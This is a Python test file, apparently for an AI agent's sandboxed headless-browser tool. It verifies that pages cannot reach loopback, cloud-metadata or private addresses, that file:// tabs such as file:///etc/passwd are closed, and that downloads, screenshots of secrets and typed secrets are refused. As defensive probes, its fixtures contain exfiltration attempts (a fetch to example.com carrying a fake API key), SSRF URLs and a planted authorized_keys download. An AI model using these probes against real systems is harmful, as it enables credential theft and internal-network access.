"""The browser as a boundary of its own, against a real headless Chromium (issue 49, item 5):
DevTools over a pipe (no TCP port in any of the browser's processes), the profile in nyz's
state directory (0700), pages that cannot reach loopback ports other than the workspace file
server's, a popup or a tab on file:// closed, downloads denied, screenshots of a page showing
a known secret or a masked file's content refused, and secrets never typed into a page.

Every "refused" is checked where it would land: a loopback server that counts its hits."""

from __future__ import annotations

import base64
import functools
import os
import shutil
import subprocess
import tempfile
from pathlib import Path

import pytest
import trio
from _toolctx import make_ctx

import actors
from nyzhi.config.secrets import Redactor
from nyzhi.core.runtime import browser as browser_core
from nyzhi.core.runtime.assembly import services_supervisor
from nyzhi.core.runtime.browser import BrowserPool, BrowserSettings
from nyzhi.testing.loopback_http import serve_pages
from nyzhi.tools.builtin.browser import (
    BrowserEvaluateTool,
    BrowserOpenTool,
    BrowserScreenshotTool,
    BrowserTypeTool,
)
from nyzhi.tools.cdp import BrowserUnavailable, find_browser
from nyzhi.tools.netguard import NetPolicy

try:
    find_browser(None)
    HAVE_CHROMIUM = True
except BrowserUnavailable:
    HAVE_CHROMIUM = False
    if os.environ.get("CI"):
        raise RuntimeError("chromium is missing in CI: make test installs it") from None

pytestmark = pytest.mark.skipif(
    not HAVE_CHROMIUM,
    reason="chromium is not installed (make test installs it: apt-get install chromium)")

SECRET = "sk-test-Hq7vNw2LpX9rT4mB"
KEY_LINES = ["b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW",
             "QyNTUxOQAAACDq0000fakefakefakefakefakefakefakefakefakefakeAAAAJgAAAAA"]


class Hits:
    """A loopback server nobody may reach: every request is recorded."""

    def __init__(self) -> None:
        self.paths: list[str] = []

    def __call__(self, path: str):
        self.paths.append(path)
        return ("text/html", b"<p>inner secret service</p>")


@pytest.fixture
def home(tmp_path, monkeypatch):
    """A HOME of the test's own, with an SSH key in it (masked), and nyz's state under it."""
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    key = "-----BEGIN OPENSSH PRIVATE KEY-----\n" + "\n".join(KEY_LINES) + "\n-----END\n"
    (home / ".ssh" / "id_ed25519").write_text(key)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("XDG_STATE_HOME", str(home / ".local" / "state"))
    monkeypatch.setattr(browser_core, "PROFILE_PARENT", None)
    return home


@pytest.fixture
async def strict(home):
    """A pool whose pages may reach nothing on this machine but the workspace file server."""
    redactor = Redactor()
    redactor.add("provider.openai.api_key", SECRET)
    async with actors.open_system(name="test") as system:
        pool = BrowserPool(lambda: services_supervisor(system),
                           BrowserSettings(env=dict(os.environ),
                                           net=NetPolicy(redactor=redactor)))
        pool.redactor = redactor
        yield pool


def _ctx(ws: Path, pool: BrowserPool):
    return make_ctx(ws, sandbox=False, browser=pool, redactor=pool.redactor)


def _group(pgid: int) -> list[int]:
    pids = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if os.getpgid(int(entry.name)) == pgid:
                    pids.append(int(entry.name))
            except ProcessLookupError:
                continue
    return pids


def _cmdline(pid: int) -> list[bytes]:
    return Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")


def _exists(path: Path) -> bool:
    return path.exists()


def _git(ws: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(["git", "-C", str(ws), *args], capture_output=True, text=True)


def _listening_inodes() -> set[str]:
    inodes = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            lines = Path(table).read_text().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            fields = line.split()
            if fields[3] == "0A":  # LISTEN
                inodes.add(fields[9])
    return inodes


def _socket_inodes(pid: int) -> set[str]:
    found = set()
    try:
        fds = list(Path(f"/proc/{pid}/fd").iterdir())
    except OSError:
        return found
    for fd in fds:
        try:
            link = os.readlink(fd)
        except OSError:
            continue
        if link.startswith("socket:["):
            found.add(link[8:-1])
    return found


async def test_devtools_over_a_pipe_and_the_profile_out_of_the_sandboxs_sight(
        strict, tmp_path, home) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "index.html").write_text("<title>Mine</title><p>inside</p>")
    res = await BrowserOpenTool().run({"url": "index.html"}, _ctx(ws, strict))
    assert not res.is_error, res.output
    pids = _group(strict.pid)
    assert len(pids) >= 2  # the browser and its helpers, all checked
    listening = _listening_inodes()
    ours = {inode for pid in pids for inode in _socket_inodes(pid)}
    assert ours, "the browser's processes have sockets (its IPC), yet none listens on TCP"
    assert not ours & listening
    cmdline = _cmdline(strict.pid)
    assert b"--remote-debugging-pipe" in cmdline
    assert not any(arg.startswith(b"--remote-debugging-port") for arg in cmdline)
    # the profile: in nyz's state directory, 0700, with no DevTools port file in it
    parent = home / ".local" / "state" / "nyzhi" / "browser"
    (profile,) = parent.glob("nyz-browser-*")
    assert oct(parent.stat().st_mode & 0o777) == "0o700"
    assert oct(profile.stat().st_mode & 0o777) == "0o700"
    assert not (profile / "DevToolsActivePort").exists()
    # the sandbox masks the state directory, the profile with it
    from nyzhi.tools.credentials import hidden_paths

    assert any(profile.is_relative_to(h.path) for h in hidden_paths())
    await strict.aclose()
    assert not list(parent.glob("nyz-browser-*"))  # removed at stop
    assert not _exists(profile)


async def test_pages_reach_no_loopback_port_but_the_workspace_servers(
        strict, tmp_path, nursery) -> None:
    hits = Hits()
    inner = await serve_pages(nursery, hits)
    port = inner.rsplit(":", 1)[1]
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "probe.html").write_text(f"""<title>probe</title><p id="out">waiting</p>
<iframe src="{inner}/framed"></iframe><img src="http://localhost:{port}/img">
<script>
fetch('{inner}/fetched', {{mode: 'no-cors'}}).then(() => 'reached', e => 'blocked: ' + e)
  .then(v => document.getElementById('out').textContent = v);
</script>""")
    ctx = _ctx(ws, strict)
    res = await BrowserOpenTool().run({"url": "probe.html", "wait_for": "#out:not(:empty)"}, ctx)
    assert not res.is_error, res.output
    res = await BrowserEvaluateTool().run({"script": """new Promise(r => {
        const f = () => { const t = document.getElementById('out').textContent;
                          t !== 'waiting' ? r(t) : setTimeout(f, 20); }; f(); })"""}, ctx)
    assert "blocked: TypeError" in res.output, res.output
    # the tool refuses the same addresses up front, with the reason
    for url, why in ((f"{inner}/direct", "127.0.0.1 is loopback"),
                     (f"http://localhost:{port}/", "localhost (127.0.0.1) is loopback"),
                     (f"http://[::ffff:127.0.0.1]:{port}/", "loopback"),
                     ("http://169.254.169.254/latest/meta-data/", "the cloud metadata endpoint"),
                     ("http://10.0.0.1/", "a private address")):
        res = await BrowserOpenTool().run({"url": url}, ctx)
        assert res.is_error and why in res.output, (url, res.output)
    # a page that sends the tab there itself: the navigation fails, with the guard's reason
    (ws / "go.html").write_text(f"<script>location.href = '{inner}/navigated'</script>")
    await BrowserOpenTool().run({"url": "go.html"}, ctx)
    res = await BrowserEvaluateTool().run({"script": "location.href"}, ctx)
    assert "/navigated" not in res.output or "chrome-error" in res.output
    assert hits.paths == []  # nothing reached the loopback server
    assert any("127.0.0.1 is loopback" in r for r in strict.guard.refusals)


async def test_a_popup_or_tab_on_a_local_file_is_closed(strict, tmp_path, nursery) -> None:
    hits = Hits()
    inner = await serve_pages(nursery, hits)
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "index.html").write_text("<title>home</title><p>home</p>")
    ctx = _ctx(ws, strict)
    assert not (await BrowserOpenTool().run({"url": "index.html"}, ctx)).is_error
    conn = await strict.connection()
    # a tab on file:// (what the DevTools endpoint's /json/new?file:///… did): closed at once
    gone = conn.expect(None, "Target.targetDestroyed")
    made = await conn.call("Target.createTarget", url=f"file://{tmp_path}/ws/index.html")
    with trio.fail_after(30):
        destroyed = await conn.wait_event(gone, "closing the file:// tab")
    assert destroyed["targetId"] == made["targetId"]
    # a popup the page opens on a loopback port: its request is refused, the popup closed
    gone = conn.expect(None, "Target.targetDestroyed")
    res = await BrowserEvaluateTool().run(
        {"script": f"(window.open('{inner}/popup'), 'opened')"}, ctx)
    assert '"opened"' in res.output
    with trio.fail_after(30):
        await conn.wait_event(gone, "closing the popup")
    assert any(u.endswith("/popup") for u in strict.guard.closed_targets)
    # a popup on file:// (from the page's script): never left open on the file
    gone = conn.expect(None, "Target.targetDestroyed")
    await BrowserEvaluateTool().run({"script": "(window.open('file:///etc/passwd'), 1)"}, ctx)
    targets = (await conn.call("Target.getTargets"))["targetInfos"]
    assert not any(t["url"].startswith("file:") for t in targets)
    assert strict.guard.closed_targets[0].startswith("file://")
    await BrowserOpenTool().run({"url": "index.html"}, ctx)  # a round trip: requests settled
    assert hits.paths == []


class Downloads:
    """Every ``Browser.downloadProgress`` of a connection (beside its own listener)."""

    def __init__(self, conn) -> None:
        self.states: list[tuple[str, int]] = []
        self.changed = trio.Event()
        self._next = conn.listener
        conn.listener = self._event

    def _event(self, message: dict) -> None:
        if self._next is not None:
            self._next(message)
        if message.get("method") == "Browser.downloadProgress" and not message.get("sessionId"):
            params = message["params"]
            self.states.append((params["state"], params.get("receivedBytes", 0)))
            self.changed.set()

    async def until(self, done) -> list[str]:
        with trio.fail_after(60):
            while not done(self.states):
                self.changed = trio.Event()
                await self.changed.wait()
        return [state for state, _ in self.states]


async def test_downloads_are_denied(home, tmp_path, nursery) -> None:
    from nyzhi.testing.browser import open_browser

    body = base64.b64encode(b"ssh-ed25519 AAAA planted-key\n" * 4000).decode()
    page_html = (f'<a id="a" href="data:application/octet-stream;base64,{body}" '
                 'download="authorized_keys">get</a>')
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "dl.html").write_text(page_html)
    # the control: a browser with downloads allowed writes the file where it is told
    url = await serve_pages(nursery, {"/": ("text/html", page_html.encode())})
    allowed = tmp_path / "allowed"
    async with open_browser(tmp_path / "p") as raw:
        await raw.call("Browser.setDownloadBehavior", behavior="allow",
                       downloadPath=str(allowed), eventsEnabled=True)
        page = await raw.new_page()
        await page.goto(url + "/")
        seen = Downloads(raw.conn)
        await page.click("#a")
        states = await seen.until(lambda s: s and s[-1][0] != "inProgress")
        assert states[-1] == "completed"
    assert (allowed / "authorized_keys").stat().st_size > 0
    async with actors.open_system(name="test") as system:
        pool = BrowserPool(lambda: services_supervisor(system),
                           BrowserSettings(env=dict(os.environ)))
        pool.redactor = None
        ctx = _ctx(ws, pool)
        assert not (await BrowserOpenTool().run({"url": "dl.html"}, ctx)).is_error
        seen = Downloads(await pool.connection())
        await BrowserEvaluateTool().run({"script": "document.getElementById('a').click()"}, ctx)
        # denied: it stops at its start, never getting a byte, or is cancelled
        states = await seen.until(lambda s: s and (s[-1][0] != "inProgress" or not s[-1][1]))
        assert states[-1] in ("canceled", "inProgress") and "completed" not in states
        assert all(received == 0 for _, received in seen.states)
        await BrowserEvaluateTool().run({"script": "1"}, ctx)  # a round trip after
        await pool.aclose()
    planted = [*home.rglob("authorized_keys"), *ws.rglob("authorized_keys"),
               *Path.home().glob("Downloads/authorized_keys*")]
    assert planted == []


async def test_screenshots_of_secrets_are_refused(strict, tmp_path) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    assert _git(ws, "init", "-q").returncode == 0
    (ws / "plain.html").write_text("<title>plain</title><h1>Nothing to hide</h1>")
    (ws / "key.html").write_text(f"<p>Your key: <code>{SECRET}</code></p>")
    (ws / "b64.html").write_text(
        f"<p>{base64.b64encode(('token=' + SECRET).encode()).decode()}</p>")
    (ws / "input.html").write_text(f'<input id="k" value="{SECRET}">')
    (ws / "masked.html").write_text("<pre>" + "\n".join(KEY_LINES) + "</pre>")
    ctx = _ctx(ws, strict)
    for page, why in (("key.html", "the page shows provider.openai.api_key (a known secret)"),
                      ("b64.html", "provider.openai.api_key as base64"),
                      ("input.html", "provider.openai.api_key"),
                      ("masked.html", "the content of a masked credential file")):
        res = await BrowserScreenshotTool().run({"url": page}, ctx)
        assert res.is_error and not res.images, (page, res.output)
        assert res.output.startswith("browser_screenshot: refused: ") and why in res.output
        assert res.output.endswith("; nothing was captured") and "\n" not in res.output
    # the page's text comes back with the masked file's lines redacted
    res = await BrowserOpenTool().run({"url": "masked.html"}, ctx)
    assert KEY_LINES[0] not in res.output and KEY_LINES[1] not in res.output
    assert res.output.count("[redacted: a line of a masked credential file]") == 2
    res = await BrowserEvaluateTool().run({"script": "document.body.innerText"}, ctx)
    assert KEY_LINES[0] not in res.output
    # a secret put into the page after load (by a script) counts as much
    await BrowserOpenTool().run({"url": "plain.html"}, ctx)
    page = await strict.page(ctx.agent_path)
    await page.evaluate(f"document.body.append({SECRET!r})")
    assert "known secret" in (await BrowserScreenshotTool().run({}, ctx)).output
    # the control: a page with nothing to hide is captured
    res = await BrowserScreenshotTool().run({"url": "plain.html"}, ctx)
    assert not res.is_error and res.images, res.output
    shots = ws / ".nyzhi" / "screenshots"
    assert len(list(shots.glob("*.png"))) == 1
    shot = str(Path(res.metadata["path"]).relative_to(ws))
    assert _git(ws, "check-ignore", "-q", shot).returncode == 0  # git-ignored
    status = _git(ws, "status", "--porcelain", "-uall").stdout
    assert "plain.html" in status and ".nyzhi/screenshots" not in status


async def test_secrets_are_never_sent_into_a_page(strict, tmp_path) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "form.html").write_text('<input id="q">')
    ctx = _ctx(ws, strict)
    assert not (await BrowserOpenTool().run({"url": "form.html"}, ctx)).is_error
    res = await BrowserTypeTool().run({"selector": "#q", "text": f"key {SECRET}"}, ctx)
    assert res.is_error and "the text carries provider.openai.api_key" in res.output
    res = await BrowserEvaluateTool().run(
        {"script": f"fetch('https://example.com/?k=' + {SECRET!r})"}, ctx)
    assert res.is_error and "the script carries provider.openai.api_key" in res.output
    res = await BrowserOpenTool().run({"url": f"https://example.com/?k={SECRET}"}, ctx)
    assert res.is_error and "carries provider.openai.api_key" in res.output
    res = await BrowserEvaluateTool().run({"script": "document.getElementById('q').value"}, ctx)
    assert res.output.count('""') == 1  # nothing was typed


def test_a_short_state_dir_keeps_the_browsers_sockets_inside_the_profile(monkeypatch):
    short = Path(tempfile.mkdtemp(prefix="nyzs", dir="/tmp"))
    try:
        monkeypatch.setattr(browser_core, "PROFILE_PARENT", None)
        profile, env = browser_core._fresh_profile({"XDG_STATE_HOME": str(short)})
        assert profile.parent == short / "nyzhi" / "browser"
        assert env["TMPDIR"] == str(profile / "t")  # the singleton socket: masked with it
        browser_core._remove_profile(profile)
        assert not profile.exists()
    finally:
        shutil.rmtree(short, ignore_errors=True)


async def test_websockets_go_through_the_guard_too(strict, tmp_path, nursery) -> None:
    """Fetch interception does not see WebSockets: the proxy every connection takes does."""
    reached: list[bytes] = []

    async def record(stream: trio.SocketStream) -> None:
        reached.append(await stream.receive_some(4096))
        await stream.aclose()

    listeners = await nursery.start(functools.partial(trio.serve_tcp, record, 0,
                                                      host="127.0.0.1"))
    port = listeners[0].socket.getsockname()[1]
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "sock.html").write_text("<p>socket</p>")
    ctx = _ctx(ws, strict)
    assert not (await BrowserOpenTool().run({"url": "sock.html"}, ctx)).is_error
    res = await BrowserEvaluateTool().run({"script": f"""new Promise(r => {{
        const s = new WebSocket('ws://127.0.0.1:{port}/');
        s.onopen = () => r('open'); s.onerror = () => r('error'); }})"""}, ctx)
    assert '"error"' in res.output
    assert reached == []
    assert any(f"127.0.0.1:{port}" in r and "loopback" in r for r in strict.guard.refusals)


async def _socks(proxy_port: int, host: str, port: int, payload: bytes) -> tuple[int, bytes]:
    """A SOCKS5 CONNECT to ``host``:``port`` through the proxy: (reply code, answer)."""
    stream = await trio.open_tcp_stream("127.0.0.1", proxy_port)
    await stream.send_all(b"\x05\x01\x00")
    assert await stream.receive_some(2) == b"\x05\x00"
    name = host.encode()
    await stream.send_all(b"\x05\x01\x00\x03" + bytes([len(name)]) + name
                          + port.to_bytes(2, "big"))
    reply = b""
    while len(reply) < 10:
        chunk = await stream.receive_some(10 - len(reply))
        if not chunk:
            break
        reply += chunk
    answer = b""
    if reply[1:2] == b"\x00":
        await stream.send_all(payload)
        while chunk := await stream.receive_some(65536):
            answer += chunk
    await stream.aclose()
    return reply[1], answer


async def test_the_proxy_checks_each_connection_and_pins_its_address(nursery) -> None:
    from nyzhi.tools.browser_proxy import GuardProxy

    hits: list[bytes] = []

    async def answer(stream: trio.SocketStream) -> None:
        hits.append(await stream.receive_some(4096))
        await stream.send_all(b"pong")
        await stream.aclose()

    listeners = await nursery.start(functools.partial(trio.serve_tcp, answer, 0,
                                                      host="127.0.0.1"))
    port = listeners[0].socket.getsockname()[1]
    asked: list[str] = []

    async def resolver(host: str, _port: int) -> list[str]:
        asked.append(host)
        return {"good.test": ["127.0.0.1"], "evil.test": ["127.0.0.1"]}[host] if len(
            asked) == 1 else ["127.0.0.9"]

    notes: list[str] = []
    proxy = GuardProxy(NetPolicy.from_hosts(["good.test"], resolver=resolver), None,
                       notes.append)
    proxy_listeners = await nursery.start(functools.partial(trio.serve_tcp, proxy.serve, 0,
                                                            host="127.0.0.1"))
    proxy_port = proxy_listeners[0].socket.getsockname()[1]
    # allowed by name, resolved once, connected to that address
    assert await _socks(proxy_port, "good.test", port, b"ping") == (0, b"pong")
    assert asked == ["good.test"] and hits == [b"ping"]
    # refused: loopback by address, by another spelling, by a name that resolves there
    for host in ("127.0.0.1", "2130706433", "localhost", "evil.test"):
        code, _ = await _socks(proxy_port, host, port, b"ping")
        assert code == 2, host  # "not allowed by ruleset"
    assert hits == [b"ping"] and len(notes) == 4
    assert "is loopback" in notes[-1]


async def test_a_workspace_at_home_never_serves_or_opens_a_masked_file(home) -> None:
    """The workspace is HOME (no project marker): ~/.ssh is inside it, and still masked."""
    import httpx

    from nyzhi.tools.builtin.browser import resolve_url
    from nyzhi.tools.builtin.common import ArgError
    from nyzhi.tools.workspace_http import WorkspaceFiles

    (home / "index.html").write_text("<p>home page</p>")
    ctx = make_ctx(home, sandbox=False)
    with pytest.raises(ArgError, match="is masked .*SSH.*; the browser never opens it"):
        resolve_url(".ssh/id_ed25519", ctx)
    files = WorkspaceFiles()
    async with trio.open_nursery() as nursery:
        listeners = await nursery.start(functools.partial(
            trio.serve_tcp, files.serve, 0, host="127.0.0.1"))
        files.base = f"http://127.0.0.1:{listeners[0].socket.getsockname()[1]}"
        base = files.url(home, home)
        async with httpx.AsyncClient() as client:
            key = await client.get(base + ".ssh/id_ed25519")
            page = await client.get(base + "index.html")
        nursery.cancel_scope.cancel()
    assert key.status_code == 404 and KEY_LINES[0] not in key.text
    assert page.status_code == 200 and "home page" in page.text


async def test_a_cross_site_frame_showing_a_secret_is_refused_too(home, tmp_path, nursery):
    """A frame of another site runs in its own process: its text is read as well."""
    secret_page = f"<p>leaked: {SECRET}</p>".encode()
    listeners = await nursery.start(functools.partial(
        trio.serve_tcp, functools.partial(_answer_one, secret_page), 0, host="127.0.0.2"))
    other = f"http://127.0.0.2:{listeners[0].socket.getsockname()[1]}"
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "framer.html").write_text(f'<p>outer</p><iframe src="{other}/"></iframe>')
    (ws / "plain.html").write_text("<p>outer</p><iframe src=\"about:blank\"></iframe>")
    redactor = Redactor()
    redactor.add("provider.openai.api_key", SECRET)
    async with actors.open_system(name="test") as system:
        pool = BrowserPool(lambda: services_supervisor(system), BrowserSettings(
            env=dict(os.environ), net=NetPolicy.from_hosts(["127.0.0.2"], redactor=redactor)))
        pool.redactor = redactor
        ctx = _ctx(ws, pool)
        res = await BrowserOpenTool().run({"url": "framer.html"}, ctx)
        assert not res.is_error, res.output
        conn = await pool.connection()
        # the load event waited for the frame: it is there, as a target of its own process
        targets = (await conn.call("Target.getTargets"))["targetInfos"]
        assert [t for t in targets if t["type"] == "iframe" and t["url"].startswith(other)]
        res = await BrowserScreenshotTool().run({}, ctx)
        assert res.is_error and "provider.openai.api_key (a known secret)" in res.output
        res = await BrowserScreenshotTool().run({"url": "plain.html"}, ctx)
        assert not res.is_error, res.output
        await pool.aclose()


async def _answer_one(body: bytes, stream: trio.SocketStream) -> None:
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = await stream.receive_some(65536)
        if not chunk:
            return
        data += chunk
    await stream.send_all(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: "
                          + str(len(body)).encode() + b"\r\nConnection: close\r\n\r\n" + body)
    await stream.aclose()
